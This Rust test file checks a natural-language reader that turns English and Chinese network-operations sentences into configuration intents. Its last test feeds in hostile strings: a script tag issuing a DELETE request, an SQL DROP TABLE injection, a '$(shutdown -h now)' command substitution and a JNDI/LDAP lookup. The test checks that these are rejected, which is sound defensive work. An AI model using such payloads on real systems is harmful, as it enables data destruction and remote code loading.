//! Sentences as strangers write them: whatever stands in one, it is answered.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test fails by panicking")]

use intents::{Answer, Conversation, LENGTH, Library, Names, Reader, Reading, Reason};
use knowledge_model::{Inventory, Schema};
use proptest::prelude::*;
use serde_json::json;

const INVENTORY: &str = "
version: 1
devices:
  - {id: 0193a5b0-0000-7000-8000-000000000101, name: ams1, address: 192.0.2.1, platforms: [frr], protocols: [cli], site: amsterdam}
  - {id: 0193a5b0-0000-7000-8000-000000000102, name: ams2, address: 192.0.2.2, platforms: [frr], protocols: [cli], site: amsterdam}
sites:
  amsterdam: {}
prefixes:
  宿舍网: {prefixes: [10.8.0.0/16]}
  dorms: {prefixes: [10.9.0.0/16]}
links:
  - {ends: [\"ams1:ge-0/0/1\", \"ams2:ge-0/0/1\"]}
";

fn reader() -> Reader {
    Reader::new(&Library::load(&[]).expect("the library is whole")).expect("the lexicon is whole")
}

fn names() -> Names {
    let inventory = Inventory::read(INVENTORY, Schema::canonical()).expect("the inventory is whole");
    Names::new(&inventory, [("dorm-cap", "qos.rate")])
}

fn read(sentence: &str) -> Answer {
    reader().read(sentence, &names(), &Conversation::default())
}

fn one(sentence: &str) -> Reading {
    let answer = read(sentence);
    let Answer::Intents(readings) = &answer else {
        panic!("{sentence}: {answer:?}")
    };
    assert_eq!(readings.len(), 1, "{sentence}: {answer:?}");
    readings[0].clone()
}

#[test]
fn names_are_those_of_the_inventory() {
    let reading = one("set the mtu of ams1 ge-0/0/1 to 9000");
    assert_eq!(reading.class, "interface.set");
    assert_eq!(
        json!(reading.slots),
        json!({ "device": "ams1", "interface": "ge-0/0/1", "mtu": 9000 })
    );
    let origin = reading
        .origins
        .iter()
        .find(|it| it.slot == "mtu")
        .expect("the reading says where the MTU stands");
    assert_eq!(origin.said, "9000");
    assert_eq!(
        json!(one("宿舍网限速五十兆").slots),
        json!({ "match": { "src": "宿舍网" }, "max": 50_000_000 })
    );
}

#[test]
fn a_name_that_does_not_exist_is_asked_back_with_its_neighbours() {
    let Answer::Ask(question) = read("shut ams3 ge-0/0/1") else {
        panic!("a device was guessed")
    };
    assert_eq!(
        (question.reason, question.said.as_deref()),
        (Reason::Unknown, Some("ams3"))
    );
    assert_eq!(question.slots, ["device"]);
    assert!(question.candidates.contains(&"ams1".to_owned()), "{question:?}");
}

#[test]
fn it_is_answered_in_the_language_of_the_sentence() {
    let text = |sentence| match read(sentence) {
        Answer::Ask(question) => question.text,
        Answer::Refuse(refusal) => refusal.text,
        Answer::Intents(readings) => panic!("{readings:?}"),
    };
    assert!(text("shut ge-0/0/1").is_ascii());
    assert!(!text("关闭ge-0/0/1").is_ascii());
    assert!(text("tell me a joke").is_ascii());
}

#[test]
fn a_conversation_is_referred_to() {
    let reader = reader();
    let conversation = Conversation {
        confirmed: vec![one("shut ams1 ge-0/0/1")],
    };
    let Answer::Intents(readings) = reader.read("the same for ams2", &names(), &conversation) else {
        panic!("not understood")
    };
    assert_eq!(
        json!(readings[0].slots),
        json!({ "device": "ams2", "interface": "ge-0/0/1", "admin": "down" })
    );
    let Answer::Ask(question) = reader.read("the same for ams2", &names(), &Conversation::default()) else {
        panic!("nothing was agreed, and still it was understood")
    };
    assert_eq!(question.slots, ["context"]);
}

#[test]
fn what_cannot_be_read_is_refused() {
    for sentence in [
        String::new(),
        " ".to_owned(),
        "shut\u{0}ams1".to_owned(),
        "x".repeat(LENGTH + 1),
        "限".repeat(1_000_000),
    ] {
        assert!(
            matches!(read(&sentence), Answer::Refuse(_)),
            "{} characters",
            sentence.chars().count()
        );
    }
}

#[test]
fn a_class_of_a_user_is_understood_without_code() {
    let class = "class: lamp.set\nversion: 1\ntitle: { en: Lamp, zh: 灯 }\ndescription: { en: d, zh: d }\nscenario: { en: s, zh: s }\nrisk: low\nslots:\n  device: { type: device, required: true, description: Where. }\n  colour: { type: text, description: Which colour. }\nconfigures:\n  - { at: 'system/banner', value: '{colour}' }\nwords:\n  slots:\n    device: { takes: [device] }\n    colour: {}\n  needs: [device, colour]\n  phrases:\n    - { en: ['(paint|lamp) .. green'], zh: [绿灯], weight: 3, sets: { colour: green } }\n";
    let library =
        Library::load(&[("lamp.yaml".to_owned(), class.to_owned())]).unwrap_or_else(|faults| panic!("{faults:?}"));
    let reader = Reader::new(&library).expect("the lexicon is whole");
    let Answer::Intents(readings) = reader.read("paint the lamp of ams1 green", &names(), &Conversation::default())
    else {
        panic!("not understood")
    };
    assert_eq!(
        (readings[0].class.as_str(), json!(readings[0].slots)),
        ("lamp.set", json!({ "device": "ams1", "colour": "green" }))
    );
}

fn fragment() -> impl Strategy<Value = String> {
    const WORDS: &[&str] = &[
        "shut",
        "ams1",
        "ams3",
        "ge-0/0/1",
        "to",
        "from",
        "and",
        "only",
        "not",
        "10.0.0.300/24",
        "10M",
        "25:00",
        "8点到",
        "限速",
        "宿舍网",
        "第三个",
        "除了",
        "\"",
        "(",
        "：",
        "，",
        "一百兆五",
        "1:2:3",
        "as",
        "between",
        "::1/129",
        "@9",
        "the same",
        "\u{200b}",
        "🜁",
        "百分之",
        "half",
    ];
    prop_oneof![
        proptest::sample::select(WORDS).prop_map(str::to_owned),
        "\\PC{0,6}",
        "[0-9:./-]{1,9}"
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hostile_text_is_answered_and_always_the_same(parts in proptest::collection::vec(fragment(), 0..12)) {
        thread_local! {
            static READER: (Reader, Names) = (reader(), names());
        }
        READER.with(|(reader, names)| {
            let sentence = parts.join(" ");
            let conversation = Conversation { confirmed: vec![Reading { class: "qos.rate".to_owned(), ..Reading::default() }] };
            for conversation in [Conversation::default(), conversation] {
                let first = reader.read(&sentence, names, &conversation);
                assert_eq!(first, reader.read(&sentence, names, &conversation));
                if let Answer::Intents(readings) = first {
                    assert!(!readings.is_empty(), "{sentence}: nothing was read, and yet it is no refusal");
                }
            }
        });
    }
}

#[test]
fn what_contradicts_itself_is_asked_about() {
    for (sentence, slot) in [
        ("limit dorms to at most 20M but at least 50M", "max"),
        ("limit dorms to 10M and to 20M", "max"),
        ("allow and deny ssh from dorms to ams1", "action"),
        ("turn ge-0/0/1 on ams1 on and off", "admin"),
    ] {
        match read(sentence) {
            Answer::Ask(question) => {
                assert_eq!(question.reason, Reason::Contradiction, "{sentence}: {question:?}");
                assert!(question.slots.iter().any(|it| it == slot), "{sentence}: {question:?}");
            }
            other @ (Answer::Intents(_) | Answer::Refuse(_)) => panic!("{sentence}: {other:?}"),
        }
    }
}

#[test]
fn a_denial_is_heard_however_it_is_written() {
    for sentence in [
        "dorms are not allowed to reach ams1",
        "dorms aren't allowed to reach ams1",
        "dorms arent allowed to reach ams1",
        "dorms mustn't reach ams1",
        "nobody from dorms may reach ams1",
        "宿舍网不许访问ams1",
    ] {
        let reading = one(sentence);
        assert_eq!(
            (reading.class.as_str(), &reading.slots["action"]),
            ("access.control", &json!("deny")),
            "{sentence}"
        );
    }
}

#[test]
fn a_value_that_finds_no_place_is_asked_about() {
    for sentence in [
        "shut ams1 ge-0/0/1 10.8.0.0/16",
        "limit dorms to 50M 443",
        "watch the latency from dorms to ams1, over 20 is bad",
        "limit ge-0/0/1 to 10M",
    ] {
        let answer = read(sentence);
        assert!(!matches!(answer, Answer::Intents(_)), "{sentence}: {answer:?}");
    }
}

#[test]
fn scripts_are_no_intents() {
    for sentence in [
        "<script>fetch('/v1/intents',{method:'DELETE'})</script>",
        "'; DROP TABLE intents; --",
        "$(shutdown -h now)",
        "{{ams1}} ${jndi:ldap://192.0.2.1/a}",
        "ams1 амс1 ａｍｓ１ 限 limit حد",
    ] {
        let answer = read(sentence);
        assert!(!matches!(answer, Answer::Intents(_)), "{sentence}: {answer:?}");
    }
}
